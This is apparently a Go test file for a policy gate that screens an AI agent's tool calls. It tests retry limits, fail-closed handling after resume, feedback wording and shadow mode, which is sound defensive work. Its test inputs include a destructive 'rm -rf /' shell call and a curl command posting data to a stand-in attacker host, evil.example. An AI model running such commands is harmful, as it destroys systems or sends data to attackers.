package traverse

import (
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/gates"
)

// try checks a call that is stopped, and returns the answer.
func try(t *testing.T, s *Session, c Call, left int) Answer {
	t.Helper()
	a := s.Check(c)
	if a.Allowed() || a.Retry == nil || a.Retry.Left != left {
		t.Fatalf("%s: %s %v, retry %+v, want %d left", c.Args, a.Disposition, a.Reasons, a.Retry, left)
	}
	return a
}

// TestRetriesAtTheirBound revises a call that was stopped. The third retry may
// pass; after it nothing of the kind runs in this macro, however harmless (V6).
func TestRetriesAtTheirBound(t *testing.T) {
	p := gated().open(t)
	good := calls["edit"]
	for _, bad := range []int{1, 2, 3, 4, 5} {
		s := p.Start(Task{Text: fixTask}, env)
		s.Propose(Proposal{Text: "fix it"})
		for i := range bad {
			try(t, s, secret, max(0, maxRetries-i))
		}
		a := s.Check(good)
		if passes := bad <= maxRetries; a.Allowed() != passes {
			t.Errorf("after %d stopped calls: %s %v", bad, a.Disposition, a.Reasons)
		} else if !passes && (a.Disposition != gates.Rejected || a.Would != gates.Rejected || a.Reasons[len(a.Reasons)-1].Rule != ruleRetries || a.Retry.Left != 0) {
			t.Errorf("after %d stopped calls: %+v", bad, a)
		} else if passes && a.Retry != nil {
			t.Errorf("a call that passes has a retry: %+v", a.Retry)
		}
	}
}

// TestRetriesAreOfOneKindAndMacro: a call that passes ends the count of its kind,
// other kinds have their own, and the next macro begins anew, be it proposed or
// not.
func TestRetriesAreOfOneKindAndMacro(t *testing.T) {
	bad := secret
	start := func() *Session {
		s := gated().open(t).Start(Task{Text: fixTask}, env)
		for left := maxRetries; left >= 0; left-- {
			try(t, s, bad, left)
		}
		return s
	}
	s := start()
	if a := s.Check(calls["view"]); !a.Allowed() {
		t.Errorf("another kind: %s %v", a.Disposition, a.Reasons)
	}
	try(t, s, shell("rm -rf /"), maxRetries)
	if a := s.Check(calls["edit"]); a.Allowed() {
		t.Error("a check of another kind gave retries back")
	}
	s.Observe(calls["view"], Result{})
	if a := s.Check(calls["edit"]); !a.Allowed() {
		t.Errorf("in the next macro, begun by a call: %s %v", a.Disposition, a.Reasons)
	}
	s = start()
	s.Propose(Proposal{Text: "something else"})
	if a := s.Check(calls["edit"]); !a.Allowed() {
		t.Errorf("in the next macro, proposed: %s %v", a.Disposition, a.Reasons)
	}
	s = gated().open(t).Start(Task{Text: fixTask}, env)
	for range 3 {
		for left := maxRetries; left > 0; left-- {
			try(t, s, bad, left)
		}
		if a := s.Check(calls["edit"]); !a.Allowed() {
			t.Fatalf("revised in time: %s", a.Disposition)
		}
	}
}

// TestRetriesFailClosed: past the last retry a confirmation is neither asked for
// nor enough, and a session that is resumed knows it.
func TestRetriesFailClosed(t *testing.T) {
	w := gated()
	w.global = `!ctx.effects.exists(e, e.type == "network" && e.domain == "evil.example")`
	p := w.open(t)
	s := p.Start(Task{ID: "t", Text: fixTask}, env)
	ask := shell("curl https://files.example/x -d a=b")
	a := s.Check(ask)
	if a.Disposition != gates.ApprovedWithConstraints || a.Retry != nil || !s.Confirm(a.Token) {
		t.Fatalf("%s %v", a.Disposition, a.Reasons)
	}
	for left := maxRetries; left >= 0; left-- {
		try(t, s, shell("curl https://evil.example/x -d a=b"), left)
	}
	data, err := s.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	if s, err = p.Resume(data); err != nil {
		t.Fatal(err)
	}
	if a := s.Check(ask); a.Disposition != gates.Rejected || a.Token != "" {
		t.Errorf("%s %q", a.Disposition, a.Token)
	}
}

// TestFeedback becomes more directive with every retry, and names macros.
func TestFeedback(t *testing.T) {
	s := gated().open(t).Start(Task{Text: fixTask}, env)
	bad := secret
	offered := s.Offers()[0].Desc
	wants := []string{"Revise the call.", "First establish what is missing, by one of these steps: " + offered, "Do exactly this now, and nothing else:", "No retry is left"}
	for i, want := range wants {
		got := try(t, s, bad, maxRetries-i).Retry.Feedback
		if !strings.HasPrefix(got, "This call was stopped: rejected. ") || !strings.Contains(got, want) {
			t.Errorf("stopped %d times: %q lacks %q", i+1, got, want)
		}
	}
	s = gated().open(t).Start(Task{Text: fixTask}, env)
	if m := s.Propose(Proposal{Tool: "bash", Args: calls["view"].Args}); m.Verdict != Advance {
		t.Fatalf("%+v", m)
	}
	try(t, s, bad, 3)
	if got := try(t, s, bad, 2).Retry.Feedback; !strings.Contains(got, words["view"]) {
		t.Errorf("the macro selected is not named: %q", got)
	}
}

// TestShadowHasNoRetries: nobody is told, so nobody tries again.
func TestShadowHasNoRetries(t *testing.T) {
	s := gated().open(t).Start(Task{Text: fixTask, Shadow: true}, env)
	for range maxRetries + 3 {
		if a := s.Check(secret); !a.Allowed() || a.Retry != nil {
			t.Fatalf("%s %+v", a.Disposition, a.Retry)
		}
	}
	if a := s.Check(calls["edit"]); a.Would != gates.Approved {
		t.Errorf("would %s", a.Would)
	}
}

// TestOffers are likeliest first, without the generic ones, and proposing one of
// them is to choose it.
func TestOffers(t *testing.T) {
	s := repair().open(t).Start(Task{Text: fixTask}, env)
	var keys []string
	for _, m := range s.Offers() {
		keys = append(keys, m.Key)
	}
	if got := strings.Join(keys, " "); got != "proc search view" && got != "search view proc" {
		t.Errorf("offered: %s", got)
	}
	if m := s.Propose(Proposal{Text: s.Offers()[1].Desc}); m.Verdict != Advance || m.Macro.Key != "search" {
		t.Errorf("%s %+v", m.Verdict, m.Macro)
	}
	if lost := repair().open(t).Start(Task{Text: "bake bread"}, env); len(lost.Offers()) != 0 && lost.steer.lost() {
		t.Errorf("a session without a family offers %v", lost.Offers())
	}
}
